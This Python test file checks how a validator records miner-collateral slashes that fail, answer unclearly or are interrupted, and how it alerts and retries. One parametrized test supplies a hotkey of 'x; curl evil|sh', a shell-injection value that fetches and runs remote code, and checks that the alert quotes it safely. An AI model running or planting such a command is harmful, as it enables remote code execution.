"""Slashes as the contract answers, fails or is broken off: made once, told, settled or in doubt."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import signal
import threading
from decimal import Decimal
from fractions import Fraction
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
from reference_validator import InjectedError, Managed
from reference_validator.scoring import NothingMovedError
from ten_miners import TEN, THIRD, complete, state_of_slash, ten_to_eliminate
from waiting import until

from shmelim.eliminations.debts.states import ATTEMPTING, IN_DOUBT, OWED
from shmelim.errors import NotServingError, SlashNotMadeError, StateUnavailableError

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path


@pytest.mark.parametrize("moved", [False, True])
def test_contract_that_raises_leaves_the_slash_in_doubt(managed: Managed, moved: bool) -> None:
    ten_to_eliminate(managed)
    managed.validator.faults.fail("slash!" if moved else "slash", hotkey=THIRD)
    for _ in range(3):
        managed.tick()
    assert managed.validator.collateral.slashes().count(THIRD) == moved
    assert state_of_slash(managed) == [IN_DOUBT]
    assert len(managed.alerts) == 1
    assert "nobody knows" in managed.alerts[0]
    assert len(complete(managed)) == 9
    assert managed.manager._server_proxy.resolve_slash_rpc(THIRD, made=moved)
    managed.tick()
    assert managed.validator.collateral.slashes().count(THIRD) == 1
    assert complete(managed) == TEN


class Pending:
    """What will happen some day, if it does not happen already."""

    def __await__(self) -> Any:
        raise AssertionError("nobody waits for it")


@pytest.mark.parametrize(
    "answer", [0, 1, "done", (True, "tx"), (), InjectedError("no"), np.array([True]), Pending()]
)
def test_contract_that_answers_neither_yes_nor_no_leaves_the_slash_in_doubt(
    directly: Managed, answer: Any
) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.collateral.answer = answer
    directly.tick()
    assert state_of_slash(directly) == [IN_DOUBT]
    [alert] = directly.alerts
    assert f"answered {type(answer).__name__}" in alert


def test_contract_that_answers_with_a_coroutine_leaves_the_slash_in_doubt(directly: Managed) -> None:
    """What its method did before it made one, nobody knows: it is asked once, and not again by itself."""
    asked = []

    def slash(hotkey: str, slash_proportion: float | None = None) -> Any:
        asked.append(hotkey)
        return slash_later(hotkey)

    directly.manager.contract_manager.slash_miner_collateral_proportion = slash
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    for _ in range(3):
        directly.tick()
    assert (state_of_slash(directly), asked) == ([IN_DOUBT], ["a"])
    [alert] = directly.alerts
    assert "answered with a coroutine" in alert


@pytest.mark.parametrize(
    "share", [np.True_, True, b"1", "1", Decimal("NaN"), np.float64("nan"), 50, -1, [1], np.array([0.5])], ids=repr
)
def test_a_share_that_is_none_is_refused_and_nothing_is_slashed(directly: Managed, share: Any) -> None:
    directly.environment.slash_proportion = lambda _: share  # type: ignore[method-assign]
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.tick()
    assert directly.validator.collateral.taken("a") == []
    assert state_of_slash(directly) == [OWED]
    assert any("share to slash" in text for text in directly.alerts)


@pytest.mark.parametrize("share", [Decimal("0.5"), np.float32(0.5), Fraction(1, 2)])
def test_a_share_may_be_any_number(directly: Managed, share: Any) -> None:
    directly.environment.slash_proportion = lambda _: share  # type: ignore[method-assign]
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.tick()
    assert directly.validator.collateral.taken("a") == [50.0]


@pytest.mark.parametrize("answer", [None, True, np.True_])
def test_contract_that_answers_yes_or_nothing_has_slashed(directly: Managed, answer: Any) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.collateral.answer = answer
    directly.tick()
    assert (directly.debts, directly.alerts) == ([], [])


@pytest.mark.parametrize("answer", [False, np.False_])
def test_contract_that_declines_has_settled_it(directly: Managed, answer: Any) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.collateral.answer = answer
    directly.tick()
    assert (directly.debts, directly.alerts) == ([], [])
    [slash] = directly.manager._server_proxy.get_slashes_rpc()
    assert (slash["outcome"], slash["rule"]) == ("declined", "drawdown")
    assert "answered bool False" in slash["answer"]


@pytest.mark.parametrize(
    ("outcome", "states"),
    [
        (lambda _: "made", []),
        (lambda answer: "not made" if isinstance(answer, dict) else "made", [OWED]),
        (lambda answer: "declined" if isinstance(answer, InjectedError) else "in doubt", [IN_DOUBT]),
        (lambda _: "perhaps", [IN_DOUBT]),
        (lambda answer: answer["missing"], [IN_DOUBT]),
    ],
    ids=["made", "not made", "in doubt", "unknown word", "fails"],
)
def test_environment_says_what_an_answer_means(directly: Managed, outcome: Any, states: list[str]) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.collateral.answer = {"tx": "0x1"}
    directly.environment.slash_outcome = outcome
    directly.tick()
    assert state_of_slash(directly) == states


def test_environment_says_what_an_error_of_the_contract_means(directly: Managed) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.faults.fail("slash", InjectedError("nothing there"), hotkey="a")
    directly.environment.slash_outcome = lambda answer: "declined" if isinstance(answer, InjectedError) else "made"
    directly.tick()
    assert (directly.debts, directly.alerts) == ([], [])


class Receipt:
    """What a contract answers that has slashed; it can be shown only while the chain can be reached."""

    def __repr__(self) -> str:
        raise NothingMovedError("no connection")


def test_answer_that_cannot_be_shown_is_an_answer(directly: Managed) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.collateral.answer = Receipt()
    directly.environment.slash_outcome = lambda answer: "made" if isinstance(answer, Receipt) else "not made"
    for _ in range(3):
        directly.tick()
    assert directly.validator.collateral.slashes() == ["a"]
    assert directly.debts == []
    [slash] = directly.manager._server_proxy.get_slashes_rpc()
    assert slash["answer"] == (
        "the contract answered Receipt that cannot be shown: NothingMovedError: no connection"
    )


@pytest.mark.parametrize("word", [np.array(["made", "made"]), {}, ["made"], Receipt(), 1], ids=type)
def test_word_that_is_not_one_of_the_four_leaves_the_slash_in_doubt(directly: Managed, word: Any) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.environment.slash_outcome = lambda _: word
    for _ in range(2):
        directly.tick()
    assert state_of_slash(directly) == [IN_DOUBT]
    assert "which slash_outcome calls" in directly.debts[0]["error"]
    assert not [text for text in directly.alerts if "was not made" in text]


@pytest.mark.parametrize("named", [NothingMovedError, (KeyError, NothingMovedError)], ids=["one", "several"])
def test_error_that_the_environment_names_is_a_slash_not_made(directly: Managed, named: Any) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.environment.not_made_errors = named
    directly.validator.faults.fail("slash", NothingMovedError("refused"), times=2)
    directly.validator.faults.fail("slash", InjectedError("who knows"))
    states = []
    for _ in range(4):
        directly.tick()
        states += state_of_slash(directly)
    assert states == [OWED, OWED, IN_DOUBT, IN_DOUBT], "and any other error leaves it in doubt"


def test_slash_that_is_not_made_is_tried_again_after_pauses_that_grow(directly: Managed) -> None:
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    tried = []

    def refuse(hotkey: str, slash_proportion: float | None = None) -> None:
        tried.append(directly.environment.now_ms())
        raise SlashNotMadeError("not now")

    directly.manager.contract_manager = SimpleNamespace(slash_miner_collateral_proportion=refuse)
    for _ in range(150):
        directly.tick()
    pauses = [(later - earlier) // 60_000 for earlier, later in itertools.pairwise(tried)]
    assert pauses[0] < 6
    assert pauses == sorted(pauses)
    assert 120 < pauses[-1] <= 365
    assert len(tried) < 20


async def slash_later(_hotkey: str, slash_proportion: float | None = None) -> None:
    raise AssertionError("nobody runs it")


@pytest.mark.parametrize(
    ("slash", "why"),
    [
        (slash_later, "coroutine"),
        (lambda: None, "positional argument"),
        (lambda hotkey, share: None, "argument"),
        (lambda hotkey, proportion=None, /: None, "slash_proportion"),
        ("no method", "not callable"),
    ],
)
def test_contract_that_cannot_be_called_so_has_certainly_not_slashed(
    directly: Managed, slash: Any, why: str, recwarn: pytest.WarningsRecorder
) -> None:
    directly.environment.slash_proportions["MAX_TOTAL_DRAWDOWN"] = 0.5
    contract = directly.manager.contract_manager
    good = contract.slash_miner_collateral_proportion
    contract.slash_miner_collateral_proportion = slash
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.tick()
    assert state_of_slash(directly) == [OWED]
    [alert] = directly.alerts
    assert "was not made" in alert
    assert why in alert
    assert [str(warning.message) for warning in recwarn] == []
    contract.slash_miner_collateral_proportion = good
    directly.tick()
    assert directly.validator.collateral.taken("a") == [50.0]


def test_share_is_passed_by_its_name(directly: Managed) -> None:
    taken: list[Any] = []

    def slash(hotkey: str, *, note: str = "", slash_proportion: float | None = None) -> None:
        taken.append((hotkey, note, slash_proportion))

    directly.manager.contract_manager.slash_miner_collateral_proportion = slash
    directly.environment.slash_proportions["PLAGIARISM"] = 0.5
    directly.validator.register("a", "b")
    directly.validator.probation.fail("a", "PLAGIARISM", None)
    directly.validator.probation.fail("b", "FAILED_CHALLENGE_PERIOD_TIME", None)
    directly.tick()
    assert taken == [("a", "", 0.5), ("b", "", None)]


def test_share_that_nobody_can_say_stops_nobody_elses_debts(managed: Managed) -> None:
    ten_to_eliminate(managed)
    known = managed.environment.slash_proportion

    def fail_for_the_third(reason: str) -> Any:
        if reason == "LIQUIDATED":
            raise KeyError(reason)
        return known(reason)

    managed.environment.slash_proportion = fail_for_the_third
    managed.validator.lose(THIRD, 0.7)
    for _ in range(3):
        managed.tick()
    assert sorted(complete(managed)) == sorted(set(TEN) - {THIRD})
    assert [(debt["kind"], debt["state"], debt["attempts"]) for debt in managed.debts] == [("slash", OWED, 3)]
    [alert] = managed.alerts
    assert THIRD in alert
    managed.environment.slash_proportion = known
    managed.tick()
    assert sorted(complete(managed)) == sorted(TEN)


@pytest.mark.parametrize("error", [InjectedError("refused"), asyncio.CancelledError()])
def test_attempt_that_cannot_begin_stops_nobody_elses_debts(directly: Managed, error: BaseException) -> None:
    ten_to_eliminate(directly)
    server = directly.manager._server_proxy
    begin = server.begin_slash_rpc

    def refuse_the_third(hotkey: str, attempt: str, *more: Any) -> bool:
        if hotkey == THIRD:
            raise error
        return begin(hotkey, attempt, *more)

    server.begin_slash_rpc = refuse_the_third
    for _ in range(2):
        directly.tick()
    assert complete(directly) == [hotkey for hotkey in TEN if hotkey != THIRD]
    assert state_of_slash(directly) == [OWED]
    assert len(directly.alerts) == 1
    server.begin_slash_rpc = begin
    directly.tick()
    assert complete(directly) == TEN


@pytest.mark.parametrize("point", ["cancel", "store", "slash"])
def test_cancelled_error_is_that_miners_failure(directly: Managed, point: str) -> None:
    ten_to_eliminate(directly)
    directly.validator.faults.fail(point, asyncio.CancelledError(), hotkey=THIRD)
    directly.tick()
    assert complete(directly) == [hotkey for hotkey in TEN if hotkey != THIRD]
    assert len(directly.alerts) == 1
    if point == "slash":
        assert state_of_slash(directly) == [IN_DOUBT]
    else:
        directly.tick()
        assert complete(directly) == TEN


def test_doubt_is_told_though_it_was_told_before_that_the_slash_was_not_made(managed: Managed) -> None:
    managed.validator.register("a")
    managed.validator.lose("a", 0.2)
    managed.validator.faults.fail("slash", NothingMovedError("refused"))
    managed.tick()
    managed.validator.faults.fail("slash")
    for _ in range(3):
        managed.tick()
    assert ["nobody knows" in alert for alert in managed.alerts] == [False, True]


def test_each_doubt_is_told_once(managed: Managed) -> None:
    managed.validator.register("a")
    managed.validator.lose("a", 0.2)
    managed.validator.faults.fail("slash", times=2)
    for told in (1, 2):
        for _ in range(2):
            managed.tick()
        assert len(managed.alerts) == told
        assert managed.manager.resolve_slash("a", made=False)
    managed.tick()
    assert managed.debts == []
    assert len(managed.alerts) == 2
    assert managed.manager._processor.context.alerts.standing() == []


def test_alert_that_could_not_be_sent_is_sent_later(managed: Managed) -> None:
    ten_to_eliminate(managed)
    faults = managed.validator.faults
    faults.fail("slash", hotkey=THIRD)
    faults.fail("store", hotkey=TEN[4], times=None)
    silent = faults.fail("slack", times=None)
    for _ in range(3):
        managed.tick()
    assert silent.happened
    assert managed.alerts == []
    silent.times = 0
    for _ in range(3):
        managed.tick()
    assert len(managed.alerts) == 2
    assert any("nobody knows" in alert and THIRD in alert for alert in managed.alerts)
    assert any("positions" in alert and TEN[4] in alert for alert in managed.alerts)


def test_alert_that_slack_does_not_take_is_sent_later(directly: Managed) -> None:
    """A notifier says so by False."""
    answers = [False, False, True]
    sent: list[str] = []

    def send(text: str, level: str) -> bool:
        assert level == "error"
        sent.append(text)
        return answers.pop(0)

    directly.manager.slack_notifier = SimpleNamespace(send_message=send)
    directly.validator.register("a")
    directly.validator.lose("a", 0.2)
    directly.validator.faults.fail("slash")
    for _ in range(5):
        directly.tick()
    assert len(sent) == 3


def test_alert_that_no_longer_holds_is_not_sent_later(managed: Managed) -> None:
    ten_to_eliminate(managed)
    managed.validator.faults.fail("store", hotkey=THIRD)
    silent = managed.validator.faults.fail("slack", times=None)
    managed.tick()
    managed.tick()
    silent.times = 0
    managed.tick()
    assert complete(managed) == TEN
    assert managed.alerts == []


def test_doubt_of_an_earlier_process_is_told(managed: Managed) -> None:
    """It may have ended before it could tell."""
    managed.validator.register("a")
    managed.validator.lose("a", 0.2)
    managed.validator.faults.fail("slash")
    managed.validator.faults.fail("slack", times=None)
    managed.tick()
    managed.restart()
    for _ in range(2):
        managed.tick()
    [alert] = managed.alerts
    assert "nobody knows" in alert


@pytest.mark.parametrize(
    ("hotkey", "advice"),
    [
        ("x; curl evil|sh", "shmelim slash resolve 'x; curl evil|sh'"),
        ("two\nlines\x1b[2J", r"shmelim slash resolve 'two\nlines\x1b[2J'"),
        ("--made", "shmelim slash resolve -- --made"),
    ],
)
def test_what_a_stranger_chose_is_no_command_and_no_second_line(
    directly: Managed, hotkey: str, advice: str, caplog: pytest.LogCaptureFixture
) -> None:
    directly.validator.probation.fail(hotkey, "PLAGIARISM", None)
    directly.validator.faults.fail("slash", InjectedError("all\nfine"))
    directly.tick()
    [alert] = directly.alerts
    assert alert.endswith(advice)
    assert alert.isprintable()
    assert alert in caplog.messages


def test_slash_that_was_certainly_not_made_is_made_by_a_later_tick(managed: Managed) -> None:
    ten_to_eliminate(managed)
    managed.validator.faults.fail("slash", NothingMovedError("refused"), hotkey=THIRD, times=2)
    managed.tick()
    assert state_of_slash(managed) == [OWED]
    for _ in range(2):
        managed.tick()
    assert len(managed.alerts) == 1
    assert complete(managed) == TEN


class Away(SystemExit):
    """What ends a process, as a signal's handler raises it."""


@pytest.mark.parametrize("point", ["slash", "slash!"])
def test_slash_that_is_broken_off_is_in_doubt_before_anything_else_happens(managed: Managed, point: str) -> None:
    ten_to_eliminate(managed)
    managed.validator.faults.fail(point, Away(), hotkey=THIRD)
    with pytest.raises(Away) if managed.mode == "direct" else contextlib.nullcontext():
        managed.tick()
    assert IN_DOUBT in state_of_slash(managed)
    managed.tick()
    assert sorted(complete(managed)) == [hotkey for hotkey in TEN if hotkey != THIRD]
    assert state_of_slash(managed) == [IN_DOUBT]


@pytest.mark.parametrize("method", ["begin_slash_rpc", "settle_debt_rpc", "fail_debt_rpc"])
def test_outcome_that_could_not_be_recorded_is_recorded_later(directly: Managed, method: str) -> None:
    """The server is away after it began an attempt, after the contract moved money, or after it refused to."""
    ten_to_eliminate(directly)
    server = directly.manager._server_proxy
    original = getattr(server, method)
    lost: list[Any] = []

    def lose_the_answer(hotkey: str, *arguments: Any, **named: Any) -> Any:
        is_slash = method == "begin_slash_rpc" or arguments[0] == "slash"
        if hotkey == THIRD and is_slash and not lost:
            lost.append(original(hotkey, *arguments) if method == "begin_slash_rpc" else None)
            raise NotServingError("gone")
        return original(hotkey, *arguments, **named)

    if method == "fail_debt_rpc":
        directly.validator.faults.fail("slash", NothingMovedError("refused"), hotkey=THIRD)
    setattr(server, method, lose_the_answer)
    if method == "begin_slash_rpc":
        with pytest.raises(StateUnavailableError):
            directly.tick()
        assert state_of_slash(directly) == [OWED] * 8, "the contract was not called, for any from there on"
    else:
        directly.tick()
        assert state_of_slash(directly) == [ATTEMPTING]
    assert lost
    for _ in range(2):
        directly.tick()
    assert complete(directly) == TEN
    assert sorted(directly.validator.collateral.slashes()) == TEN


def test_an_answer_that_a_dead_server_could_not_take_is_recorded_before_another_tick_is_due(
    new_name: Callable[[], str], tmp_path: Path
) -> None:
    """A doubt would stand for minutes, of what this process knows."""
    with Managed("rpc", new_name(), tmp_path) as managed:
        managed.validator.register("a")
        managed.validator.lose("a", 0.2)

        def kill() -> None:
            os.kill(managed.manager.server_pid, signal.SIGKILL)

        managed.validator.faults.at("slash!", kill)
        with contextlib.suppress(StateUnavailableError):
            managed.tick()

        def is_recorded() -> bool:
            with contextlib.suppress(StateUnavailableError):
                managed.manager.process_eliminations()
            with contextlib.suppress(ConnectionError, TimeoutError):
                return managed.debts == []
            return False

        until(is_recorded)
        assert managed.validator.collateral.slashes() == ["a"]


@pytest.mark.parametrize("made", [True, False])
@pytest.mark.parametrize("act", ["process_eliminations", "settle_debts"])
def test_an_answer_that_waits_to_be_recorded_comes_before_what_a_person_says(
    new_name: Callable[[], str], tmp_path: Path, made: bool, act: str
) -> None:
    with Managed("direct", new_name(), tmp_path, slash_lease_s=0) as managed:
        managed.validator.register("a")
        managed.validator.lose("a", 0.2)
        server = managed.manager._server_proxy
        original = server.settle_debt_rpc

        def lose_it(*arguments: Any) -> Any:
            if arguments[1] != "slash":
                return original(*arguments)
            del server.settle_debt_rpc
            raise NotServingError("gone")

        server.settle_debt_rpc = lose_it
        if not made:
            managed.validator.collateral.answer = False
        managed.tick()
        assert managed.manager.resolve_slash("a", made=not made)
        for _ in range(2):
            getattr(managed.manager, act)()
        assert managed.debts == []
        assert managed.validator.collateral.slashes() == ["a"]
        assert len(managed.alerts) == (not made), "a person who was wrong is told"


def test_an_error_whose_text_has_no_utf_8_is_recorded_and_stops_nobody(managed: Managed) -> None:
    ten_to_eliminate(managed)
    faults = managed.validator.faults
    for place in ("slash!", "cancel", "store"):
        faults.fail(place, InjectedError("no such file: \udcff" + "x" * (1 << 21)), hotkey=THIRD)
    managed.tick()
    assert sorted(complete(managed)) == [hotkey for hotkey in TEN if hotkey != THIRD]
    owed = {debt["kind"]: (debt["state"], debt["error"]) for debt in managed.debts}
    assert owed["slash"][0] == IN_DOUBT
    assert all("no such file: \\udcff" in error for _, error in owed.values())


def test_an_answer_that_the_server_does_not_take_is_in_its_health(managed: Managed) -> None:
    """It is there, and the health that it gives must not look well."""
    managed.validator.register("a")
    managed.validator.lose("a", 0.2)
    state = managed.manager._processor.context.state
    original = state.settle_debt

    def refuse(hotkey: str, kind: str, *more: Any) -> bool:
        if kind == "slash":
            raise TypeError("cannot be sent")
        return bool(original(hotkey, kind, *more))

    state.settle_debt = refuse
    managed.tick()
    assert state_of_slash(managed) == [ATTEMPTING]
    problems = managed.manager._server_proxy.health_check_rpc()["problems"]
    assert [problem["name"] for problem in problems] == ["slash not recorded"]
    state.settle_debt = original
    managed.tick()
    assert managed.debts == []
    assert managed.manager._server_proxy.health_check_rpc()["status"] == "ok"
    assert managed.validator.collateral.slashes() == ["a"]


def test_two_ticks_at_once_make_nothing_twice(managed: Managed) -> None:
    ten_to_eliminate(managed)
    together = threading.Barrier(2)

    def tick() -> None:
        together.wait()
        managed.manager._processor.handle_mdd_eliminations()

    threads = [threading.Thread(target=tick) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert complete(managed) == TEN
    assert [len(holding.trades) for hotkey in TEN for holding in managed.validator.book.on_disk(hotkey)] == [
        2
    ] * 10
